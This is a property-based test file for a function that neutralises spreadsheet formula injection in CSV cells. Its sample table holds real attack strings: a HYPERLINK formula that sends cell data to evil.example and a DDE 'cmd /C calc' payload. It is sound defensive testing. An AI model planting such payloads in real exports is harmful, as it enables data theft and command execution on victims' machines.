import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_FORMULA_TRIGGERS, neutraliseCsvCell, restoreCsvCell } from '../../../../shared/report/csv-cell';

/** Text built mostly from the characters that matter here, so the edge cases come up often. */
const cellText = fc.oneof(
  fc.string(),
  fc.array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', 'a', ' ', '"', ','), { maxLength: 6 }).map((a) => a.join('')),
);

describe('CSV cells against formula injection (OWASP CSV Injection)', () => {
  it('a neutralised cell never starts with = + - @, a tab or a carriage return', () => {
    fc.assert(fc.property(cellText, (s) => !CSV_FORMULA_TRIGGERS.includes(neutraliseCsvCell(s)[0] ?? '')));
  });

  it('restoring undoes neutralising exactly, for every text', () => {
    fc.assert(fc.property(cellText, (s) => restoreCsvCell(neutraliseCsvCell(s)) === s));
  });

  it('harmless text is written and read as it is', () => {
    fc.assert(
      fc.property(cellText, (s) => {
        fc.pre(!CSV_FORMULA_TRIGGERS.includes(s[0] ?? '') && !(s[0] === "'" && (CSV_FORMULA_TRIGGERS.includes(s[1] ?? '') || s[1] === "'")));
        return neutraliseCsvCell(s) === s && restoreCsvCell(s) === s;
      }),
    );
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1;"x")', `'=HYPERLINK("http://evil.example/?"&A1;"x")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['- spare', "'- spare"],
    ['-1', "'-1"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ["'=1+1", "''=1+1"],
    ["''", "'''"],
    ["'quoted'", "'quoted'"],
    ["don't", "don't"],
    ['Acme, Ltd', 'Acme, Ltd'],
    ['', ''],
  ])('%j is written as %j', (text, written) => {
    expect(neutraliseCsvCell(text)).toBe(written);
    expect(restoreCsvCell(written)).toBe(text);
  });
});
